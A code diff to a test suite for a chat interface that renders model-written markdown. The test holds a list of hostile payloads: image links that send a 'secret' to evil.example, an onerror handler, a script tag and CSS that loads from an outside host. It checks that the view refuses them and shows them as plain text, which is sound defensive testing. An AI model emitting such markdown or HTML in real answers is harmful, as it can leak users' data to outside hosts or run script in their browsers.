@@ -5,7 +5,7 @@ import { stateWith, streamingTurn, turn } from './states.ts';
 
 /** What a model may write to make the view load, run or open something. */
 const MALICIOUS = [
-  '![x](https://evil.example/?d=secret)',
+  '[fine](https://evil.example/) ![x](https://evil.example/?d=secret)',
   '![x](//evil.example/a.png) ![y](data:image/svg+xml;base64,PHN2Zy8+)',
   '<img src="https://evil.example/b.png" onerror="host.errors.push(\'ran\')">',
   '<script>host.errors.push("ran")</script><style>body{background:url(https://evil.example/c)}</style>',
@@ -53,7 +53,7 @@ describe('an answer that attacks', function () {
     const hrefs = await chat.page.evaluate<string[]>(
       `[...document.querySelectorAll('.md a')].map((a) => a.getAttribute('href'))`,
     );
-    assert.ok(hrefs.length > 0 && hrefs.every((href) => href.startsWith('https://evil.example/')));
+    assert.deepEqual(hrefs, ['https://evil.example/', 'https://evil.example/']);
   });
 
   it('shows refused links and HTML as the text that they are', async () => {
